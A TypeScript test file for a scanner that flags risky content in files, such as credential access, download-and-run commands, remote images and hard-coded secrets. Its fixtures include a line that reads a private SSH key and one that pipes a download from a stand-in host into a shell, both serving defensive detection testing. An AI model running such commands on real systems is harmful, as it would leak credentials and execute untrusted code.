import { expect, test } from "vitest";
import { findFindings } from "./find-findings";

test("findings come in the order of paths and places", () => {
  const text = "cat ~/.ssh/id_rsa\ncurl x.example | sh\n![a](https://x.example/a.png)\n";
  const findings = findFindings([
    { path: "b.md", text, size: text.length },
    { path: "a.md", bytes: new TextEncoder().encode(text), size: text.length },
  ]);
  expect(findings.map(({ path, rule, range }) => [path, rule, range.startLine])).toEqual(
    ["a.md", "b.md"].flatMap((path) => [
      [path, "credential-access", 1],
      [path, "download-and-run", 2],
      [path, "remote-image", 3],
    ]),
  );
});

test("a rule that is broken a hundred times is told fifty times, with the number left", () => {
  const text = "![a](https://x.example/a.png)\n".repeat(100);
  const findings = findFindings([{ path: "a.md", text, size: text.length }]);
  expect(findings).toHaveLength(50);
  expect(findings.at(-1)?.message).toContain("50 more of this rule");
});

test("binary files are not read as text, and long excerpts are cut", () => {
  expect(findFindings([{ path: "a.bin", bytes: Uint8Array.of(0, 1, 2, 0x1b), size: 4 }])).toEqual([]);
  const [finding] = findFindings([{ path: "a.md", text: `<!-- ${"word ".repeat(100)} -->`, size: 500 }]);
  expect(finding?.excerpt.length).toBeLessThanOrEqual(161);
});

test("random values count, words, paths and placeholders do not", () => {
  const rulesFor = (line: string) =>
    findFindings([{ path: "a.py", text: line, size: line.length }]).map((finding) => finding.rule);
  expect(rulesFor('api_key = "d8Kq2Zr7Wm4Xp9Tn3Lc6"')).toEqual(["secret-assignment"]);
  expect(rulesFor('"client_secret": "9f8e7d6c5b4a39281706f5e4d3c2b1a0"')).toEqual(["secret-assignment"]);
  for (const line of [
    'token = "correct-horse-battery-staple"',
    "password: my_function_name_is_long",
    'secret = get_secret("projects/x/secrets/y-1")',
    "api_key = os.environ['SERVICE_API_KEY_NAME']",
    "tokens: 1234567890123456",
    "TOKEN=aaaaaaaaaaaaaaaaaaaaaa1A",
  ])
    expect(rulesFor(line), line).toEqual([]);
});

test("a lot of what patterns stumble over is told in at most fifty findings a rule", () => {
  for (const piece of [
    "!`a` ",
    "<!--",
    "![",
    "curl -o a ",
    "a\u200b",
    "eval(",
    "-----BEGIN PRIVATE KEY-----",
    "A",
  ]) {
    const text = piece.repeat(100_000 / piece.length);
    const rules = Map.groupBy(findFindings([{ path: "a.md", text, size: text.length }]), ({ rule }) => rule);
    for (const [rule, found] of rules) expect(found.length, `${piece} ${rule}`).toBeLessThanOrEqual(50);
  }
});
